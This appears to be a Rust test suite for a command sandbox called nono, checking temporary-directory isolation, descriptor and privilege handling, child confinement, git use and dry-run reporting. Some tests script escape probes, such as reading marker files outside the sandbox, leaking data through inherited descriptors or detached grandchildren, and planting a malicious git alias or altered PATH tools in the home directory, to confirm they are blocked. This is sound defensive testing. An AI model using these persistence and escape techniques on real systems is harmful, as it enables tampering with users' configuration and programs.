    // With the mount layer the run directory is bound on /tmp (where no
    // grant lies in /tmp) and TMPDIR is /tmp: still private to this run.
    let shared = if mount_layer_active() {
        "/var/tmp|/dev/shm|''"
    } else {
        "/tmp|/tmp/|/var/tmp|/dev/shm|''"
    };
    let script = &format!(
        "\
        set -e; \
        [ \"$TMPDIR\" = \"$TMP\" ] && [ \"$TMPDIR\" = \"$TEMP\" ]; \
        case \"$TMPDIR\" in {shared}) exit 9;; esac; \
        cd \"$TMPDIR\"; \
        echo a > f; echo b >> f; mkdir d; mv f d/g; cat d/g; \
        : > d/g; rm d/g; rmdir d; \
        echo x > y; ln -s y z; ln y h; sed -i s/x/w/ y; cat h; \
        rm -r ./*; ls -A | wc -l; \
        echo TMP-OK"
    );
    let r = env.sandboxed_sh(
        &[
            "--allow-command",
            "mv",
            "--allow-command",
            "rm",
            "--allow-command",
            "rmdir",
        ],
        script,
    );
    r.expect_ok()
        .expect_stdout_has("a\nb\n")
        .expect_stdout_has("TMP-OK");
    // mktemp with the default template also lands there.
    env.sandboxed_sh(
        &[],
        "f=$(mktemp) && echo hi > \"$f\" && cat \"$f\" && echo \"$f\"",
    )
    .expect_ok()
    .expect_stdout_has("hi");
}

#[test]
fn shared_temporary_directories_are_not_granted() {
    let env = TestEnv::new();
    let mut dirs = vec!["/tmp", "/var/tmp"];
    if Path::new("/dev/shm").is_dir() {
        dirs.push("/dev/shm");
    }
    for dir in dirs {
        // A file with a marker that the sandbox must not read.
        let f = tempfile::Builder::new()
            .prefix("nono-probe-")
            .tempfile_in(dir)
            .unwrap_or_else(|e| panic!("cannot create a probe in {dir}: {e}"));
        fs::write(f.path(), SECRET).unwrap();
        let fp = sh_path(f.path());
        let planted = format!("{dir}/nono-planted-{}", std::process::id());
        let script = format!("cat {fp}; ls {dir}; echo x > {planted}");
        let r = env.sandboxed_sh(&["--allow", "."], &script);
        // With the mount layer, /var/tmp and /dev/shm are private ones:
        // writing works there, and neither the probe nor the write is
        // shared with the host (checked below).
        if !(mount_layer_active() && dir != "/tmp") {
            r.expect_fail();
        }
        r.expect_stdout_lacks(SECRET);
        assert!(!r.stdout().contains("nono-probe-"), "{dir} listed\n{r}");
        assert!(!Path::new(&planted).exists(), "wrote into {dir}\n{r}");
        // Control.
        env.plain_sh(&script).expect_ok().expect_stdout_has(SECRET);
        assert!(Path::new(&planted).exists());
        fs::remove_file(&planted).unwrap();
    }
}

#[test]
fn unsafe_tmpdir_base_is_refused() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let env = TestEnv::new();
    let base = env.root.join("tmp");
    fs::create_dir(&base).unwrap();
    let uid = fs::metadata("/proc/self").unwrap().uid();
    let ours = base.join(format!("nono-{uid}"));
    let args = ["run", "--", "/bin/sh", "-c", "echo ran > ran.txt"];
    // Open to other users (another user could have made it, or watch it).
    fs::create_dir(&ours).unwrap();
    fs::set_permissions(&ours, fs::Permissions::from_mode(0o755)).unwrap();
    Run::from(with_tmp(&env, &args))
        .expect_nono_error("other users")
        .expect_stderr_has("hint: set TMPDIR");
    assert!(!env.work.join("ran.txt").exists());
    // A symlink planted in its place is not followed.
    fs::remove_dir(&ours).unwrap();
    std::os::unix::fs::symlink(&env.outside, &ours).unwrap();
    Run::from(with_tmp(&env, &args)).expect_nono_error("not a directory");
    assert!(!env.work.join("ran.txt").exists());
    assert_eq!(
        fs::read_dir(&env.outside).unwrap().count(),
        1,
        "wrote through the link"
    );
}

#[test]
fn tmpdir_of_a_finished_run_is_removed_at_the_next_start() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    let first = Run::from(with_tmp(
        &env,
        &[
            "run",
            "--",
            "/bin/sh",
            "-c",
            "echo kept > \"$TMPDIR/f\"; echo \"$TMPDIR\"",
        ],
    ));
    first.expect_ok();
    let dir = host_run_dir(&env, first.stdout().trim());
    let dir = dir.as_path();
    assert!(dir.starts_with(env.root.join("tmp")), "{first}");
    // nono has exec'd: nothing removes the directory when the run ends.
    assert_eq!(read(&dir.join("f")), "kept\n");
    let second = Run::from(with_tmp(
        &env,
        &["run", "--", "/bin/sh", "-c", "echo \"$TMPDIR\""],
    ));
    second.expect_ok();
    assert!(!dir.exists(), "first run's TMPDIR survived a later start");
    let second_dir = host_run_dir(&env, second.stdout().trim());
    assert_ne!(second_dir, dir);
    // --dry-run creates and removes nothing.
    Run::from(with_tmp(&env, &["run", "--dry-run", "--", "/bin/true"])).expect_ok();
    assert!(second_dir.exists());
}

/// The run directory on the host, from the TMPDIR the command printed:
/// with the mount layer it is bound on /tmp inside, so it is found as the
/// one run directory under the test's TMPDIR base.
fn host_run_dir(env: &TestEnv, printed: &str) -> std::path::PathBuf {
    if printed != "/tmp" || !mount_layer_active() {
        return std::path::PathBuf::from(printed);
    }
    let mut found: Vec<std::path::PathBuf> = fs::read_dir(env.root.join("tmp"))
        .unwrap()
        .flatten()
        .flat_map(|base| fs::read_dir(base.path()).into_iter().flatten().flatten())
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("run-"))
        })
        .collect();
    assert_eq!(found.len(), 1, "one run directory expected: {found:?}");
    found.remove(0)
}

#[test]
fn tmpdir_of_a_live_run_is_kept() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    // The shell prints its TMPDIR and exits at once, leaving a background
    // child that waits for a line on its stdin: the run is alive exactly
    // until the test sends that line, although nono's own process is gone.
    let mut live = with_tmp(
        &env,
        &[
            "run",
            "--",
            "/bin/sh",
            "-c",
            "echo alive > \"$TMPDIR/f\"; echo \"$TMPDIR\"; exec 3<&0; \
             (read line <&3; echo done > \"$TMPDIR/bg\") & exit 0",
        ],
    );
    live.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = live.spawn().unwrap();
    // Held here: Child::wait would close it, ending the run early.
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    let dir = host_run_dir(&env, line.trim());
    assert!(dir.starts_with(env.root.join("tmp")), "{line:?}");
    assert!(child.wait().unwrap().success());

    for _ in 0..2 {
        Run::from(with_tmp(&env, &["run", "--", "/bin/true"])).expect_ok();
        assert_eq!(read(&dir.join("f")), "alive\n", "live TMPDIR removed");
    }
    // End the run: the background child reads the line, writes into its
    // TMPDIR and exits, closing stdout.
    stdin.write_all(b"go\n").unwrap();
    drop(stdin);
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).unwrap();
    assert_eq!(read(&dir.join("bg")), "done\n");
    Run::from(with_tmp(&env, &["run", "--", "/bin/true"])).expect_ok();
    assert!(!dir.exists(), "finished run's TMPDIR kept");
}

// ---------------------------------------------------------------------------
// git
// ---------------------------------------------------------------------------

const GIT_ID: &str = "-c user.name=nono-test -c user.email=test@nono.invalid \
                      -c init.defaultBranch=main -c commit.gpgsign=false";

#[test]
fn git_commit_works_with_allow_delete() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    let script = format!(
        "set -e; git {GIT_ID} init -q; git add keep.txt; git {GIT_ID} commit -qm first; \
         echo two >> keep.txt; git {GIT_ID} commit -qam second; git log --format=%s"
    );
    env.sandboxed_sh(&["--allow", ".", "--allow-delete", "."], &script)
        .expect_ok()
        .expect_stdout_has("second\nfirst");
}

#[test]
fn git_commit_fails_cleanly_without_allow_delete() {
    let env = TestEnv::new();
    env.plain_sh(&format!(
        "set -e; git {GIT_ID} init -q; git add keep.txt; git {GIT_ID} commit -qm first"
    ))
    .expect_ok();
    let head = read(&env.work.join(".git/refs/heads/main"));
    fs::write(env.work.join("second.txt"), "2\n").unwrap();
    let r = env.sandboxed_sh(
        &["--allow", "."],
        &format!("git add second.txt && git {GIT_ID} commit -qm second"),
    );
    r.expect_fail();
    // The repository is intact: same HEAD, consistent objects, work tree
    // untouched. (git leaves its index.lock behind: it may not unlink it.)
    assert_eq!(read(&env.work.join(".git/refs/heads/main")), head);
    assert_eq!(read(&env.work.join("keep.txt")), "precious\n");
    let _ = fs::remove_file(env.work.join(".git/index.lock"));
    env.plain_sh("git fsck --no-dangling && git log --format=%s && git status --porcelain")
        .expect_ok()
        .expect_stdout_has("first")
        .expect_stdout_lacks("second\n")
        .expect_stdout_has("?? second.txt");
}

// ---------------------------------------------------------------------------
// Escapes through the process: fds, privileges, children
// ---------------------------------------------------------------------------

#[test]
#[cfg(target_os = "linux")]
fn inherited_descriptors_are_closed() {
    let env = TestEnv::new();
    let marker = sh_path(&env.outside.join("marker.txt"));
    let nono = sh_path(&nono_bin());
    // Control: fd 5 reaches the file.
    env.plain_sh(&format!("exec 5<{marker}; sh -c 'cat <&5'"))
        .expect_ok()
        .expect_stdout_has(SECRET);
    for fd in [3, 5, 9] {
        env.plain_sh(&format!(
            "exec {fd}<{marker}; {nono} run --allow . -- /bin/sh -c 'cat <&{fd}'"
        ))
        .expect_fail()
        .expect_stdout_lacks(SECRET);
    }
    // Nothing beyond 0-2 and nono's own TMPDIR lock is open in the command.
    let r = env.plain_sh(&format!(
        "exec 5<{marker} 7<{marker} 4>{marker}.w; {nono} run --allow . -- /bin/sh -c \
         'echo \"tmp $TMPDIR\"; cd /proc/self/fd && for f in *; do printf \"%s \" $f; readlink $f || echo; done'"
    ));
    r.expect_ok().expect_stdout_lacks("marker.txt");
    let out = r.stdout();
    let tmp = out
        .lines()
        .find_map(|l| l.strip_prefix("tmp "))
        .unwrap_or_else(|| panic!("no TMPDIR\n{r}"));
    for l in out.lines().filter(|l| !l.starts_with("tmp ")) {
        let (fd, target) = l.split_once(' ').unwrap_or((l, ""));
        let fd: u32 = fd.parse().unwrap_or_else(|_| panic!("bad line {l:?}\n{r}"));
        let expected = fd <= 2
            || target == tmp
            // The descriptor the glob used on /proc/self/fd, closed by now.
            || target.is_empty();
        assert!(expected, "unexpected descriptor {l:?} in the command\n{r}");
    }
}

#[test]
#[cfg(target_os = "linux")]
fn no_new_privs_is_set() {
    let env = TestEnv::new();
    let plain = env.plain_sh("grep NoNewPrivs /proc/self/status");
    plain.expect_ok();
    if plain.stdout().contains('1') {
        skip("the control: the test runs with no_new_privs already set");
    }
    env.sandboxed_sh(&[], "grep NoNewPrivs /proc/self/status")
        .expect_ok()
        .expect_stdout_has("NoNewPrivs:\t1");
}

#[test]
fn grandchildren_are_confined_too() {
    if below_scoped_truncation() {
        return;
    }
    let env = TestEnv::new();
    let o = sh_path(&env.outside);
    let script = format!("sh -c 'sh -c \"cat {o}/marker.txt\"'");
    env.plain_sh(&script).expect_ok().expect_stdout_has(SECRET);
    env.sandboxed_sh(&["--allow", "."], &script)
        .expect_fail()
        .expect_stdout_lacks(SECRET);
    // A detached background grandchild (new session, parent gone) as well.
    env.sandboxed_sh(
        &["--allow", "."],
        &format!("setsid sh -c 'cat {o}/marker.txt > leaked.txt 2>&1; echo > done' &"),
    )
    .expect_ok();
    let leaked = env.work.join("leaked.txt");
    for _ in 0..400 {
        if env.work.join("done").exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
    let content = read(&leaked);
    assert!(!content.contains(SECRET), "detached child read the marker");
}

#[test]
fn piped_interactive_bash_is_confined() {
    let env = TestEnv::new();
    let o = sh_path(&env.outside);
    env.plain_sh(&format!("cat {o}/marker.txt"))
        .expect_ok()
        .expect_stdout_has(SECRET);
    let input = format!("cat keep.txt; cat {o}/marker.txt; echo end-of-session\n");
    let mut cmd = env.command(["run", "--allow", ".", "--", "bash"]);
    cmd.stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let r = Run {
        desc: "echo ... | nono run --allow . -- bash".into(),
        out,
    };
    r.expect_ok()
        .expect_stdout_has("precious")
        .expect_stdout_has("end-of-session")
        .expect_stdout_lacks(SECRET);
}

// ---------------------------------------------------------------------------
// --dry-run
// ---------------------------------------------------------------------------

#[test]
fn dry_run_runs_nothing() {
    let env = TestEnv::new();
    env.nono([
        "run",
        "--dry-run",
        "--allow",
        ".",
        "--",
        "/bin/touch",
        "created",
    ])
    .expect_ok()
    .expect_stdout_has("nothing is executed");
    assert!(!env.work.join("created").exists());
    env.nono([
        "run",
        "--dry-run",
        "--",
        "/bin/sh",
        "-c",
        "echo hi > created",
    ])
    .expect_ok();
    assert!(!env.work.join("created").exists());
}

#[test]
fn dry_run_lists_rules_origins_and_protection() {
    let env = TestEnv::new();
    let w = sh_path(&env.work);
    let r = env.nono([
        "run",
        "--dry-run",
        "--allow",
        ".",
        "--read",
        "../outside",
        "--allow-delete",
        ".",
        "--allow",
        "~",
        "--",
        "/bin/sh",
    ]);
    r.expect_ok()
        .expect_stdout_has("command:")
        .expect_stdout_has("kernel:")
        // Each rule with its rights and origin.
        .expect_stdout_has("--allow .; --allow-delete .")
        .expect_stdout_has("--read ../outside")
        .expect_stdout_has("system default (")
        .expect_stdout_has("carve-out of --allow ~")
        .expect_stdout_has("private temporary directory")
        // Protected paths, with the planted ones among them.
        .expect_stdout_has("protected")
        .expect_stdout_has(&sh_path(&env.home.join(".ssh")))
        .expect_stdout_has(&sh_path(&env.home.join(".aws")))
        .expect_stdout_has("/etc/shadow")
        // What the carve-out cannot cover.
        .expect_stdout_has("not covered");
    if cfg!(target_os = "linux") {
        r.expect_stdout_has("Landlock ABI");
    }
    let stdout = r.stdout();
    let work_line = stdout
        .lines()
        .find(|l| l.contains(&format!(" {w} ")))
        .unwrap_or_else(|| panic!("no rule for the work dir\n{r}"));
    assert!(work_line.trim_start().starts_with("rxwd"), "{r}");
    assert!(work_line.contains("--allow .; --allow-delete ."), "{r}");
    let outside_line = stdout
        .lines()
        .find(|l| l.contains(&format!(" {} ", sh_path(&env.outside))))
        .unwrap_or_else(|| panic!("no rule for outside\n{r}"));
    assert!(outside_line.trim_start().starts_with("rx---"), "{r}");
    // No protected path has a rule line (rights letters then a kind).
    for l in stdout.lines() {
        let t = l.trim_start();
        if t.starts_with('r') && (t.contains(" dir ") || t.contains(" file ")) {
            assert!(!t.contains("/.ssh"), "rule on a protected path: {l}");
            assert!(!t.contains("/etc/shadow"), "rule on a protected path: {l}");
        }
    }
}

#[test]
#[cfg(target_os = "linux")]
fn dry_run_refusal_matches_run_on_old_kernels() {
    let env = TestEnv::new();
    let probe = env.nono(["run", "--dry-run", "--", "/bin/true"]);
    if !probe.stdout().contains("Landlock ABI") {
        return skip("Landlock unavailable here");
    }
    let mut cmd = env.command(["run", "--dry-run", "--", "/bin/true"]);
    cmd.env("NONO_TEST_ABI_CAP", "2");
    let dry = Run::from(cmd);
    if !dry.stdout().contains("capped to 2") {
        return skip("binary built without the test-abi-cap feature");
    }
    // ABI 2: the default policy runs (seccomp stands in for truncation
    // control), but --allow-delete cannot be scoped and is refused, in
    // --dry-run as in run.
    dry.expect_ok().expect_stdout_lacks("REFUSED");
    let mut cmd = env.command([
        "run",
        "--dry-run",
        "--allow",
        ".",
        "--allow-delete",
        ".",
        "--",
        "/bin/true",
    ]);
    cmd.env("NONO_TEST_ABI_CAP", "2");
    Run::from(cmd).expect_ok().expect_stdout_has("REFUSED");
    let mut cmd = env.command([
        "run",
        "--allow",
        ".",
        "--allow-delete",
        ".",
        "--",
        "/bin/sh",
        "-c",
        "echo ran >> ran.txt",
    ]);
    cmd.env("NONO_TEST_ABI_CAP", "2");
    Run::from(cmd).expect_nono_error("--allow-delete");
    assert!(!env.work.join("ran.txt").exists());
    let mut cmd = env.command([
        "run",
        "--allow",
        ".",
        "--",
        "/bin/sh",
        "-c",
        "echo ran > ran.txt",
    ]);
    cmd.env("NONO_TEST_ABI_CAP", "0");
    Run::from(cmd).expect_nono_error("Landlock");
    assert!(!env.work.join("ran.txt").exists());
}

// Read-only protected paths: their contents run outside the sandbox later
// (PATH programs, git and nono configuration), so no grant makes them
// writable, though they stay readable.
#[test]
fn read_only_paths_stay_unwritable_under_allow_home() {
    let env = TestEnv::new();
    std::fs::create_dir_all(env.home.join(".local/bin")).unwrap();
    std::fs::write(env.home.join(".local/bin/tool"), "#!/bin/sh\necho tool\n").unwrap();
    std::fs::write(env.home.join(".gitconfig"), "[user]\n\tname = me\n").unwrap();
    std::fs::create_dir_all(env.home.join(".config/nono/profiles")).unwrap();
    std::fs::write(
        env.home.join(".config/nono/profiles/mine.toml"),
        "name = \"mine\"\n",
    )
    .unwrap();
    let h = env.home.display();
    let probe = format!(
        "cat {h}/.gitconfig; echo '[alias] x = !evil' >> {h}/.gitconfig; \
         echo evil >> {h}/.local/bin/tool; echo evil > {h}/.local/bin/new; \
         echo evil >> {h}/.config/nono/profiles/mine.toml; echo done"
    );
    // Control: without nono every write lands.
    let ctl = TestEnv::new();
    std::fs::create_dir_all(ctl.home.join(".local/bin")).unwrap();
    std::fs::write(ctl.home.join(".gitconfig"), "x\n").unwrap();
    let ch = ctl.home.display();
    ctl.plain_sh(&format!(
        "echo evil >> {ch}/.gitconfig && echo evil > {ch}/.local/bin/new"
    ))
    .expect_ok();
    assert!(read(&ctl.home.join(".gitconfig")).contains("evil"));

    env.sandboxed_sh(&["--allow", "~"], &probe)
        .expect_ok()
        .expect_stdout_has("name = me")
        .expect_stdout_has("done");
    assert_eq!(read(&env.home.join(".gitconfig")), "[user]\n\tname = me\n");
    assert_eq!(
        read(&env.home.join(".local/bin/tool")),
        "#!/bin/sh\necho tool\n"
    );
    assert!(!env.home.join(".local/bin/new").exists());
    assert_eq!(
        read(&env.home.join(".config/nono/profiles/mine.toml")),
        "name = \"mine\"\n"
    );
}

#[test]
fn granting_write_on_a_read_only_path_is_refused() {
    let env = TestEnv::new();
    std::fs::create_dir_all(env.home.join(".local/bin")).unwrap();
    env.nono(["run", "--allow", "~/.local/bin", "--", "/bin/true"])
        .expect_code(125)
        .expect_stderr_has("read-only");
    env.nono(["run", "--read", "~/.local/bin", "--", "/bin/true"])
        .expect_ok();
}
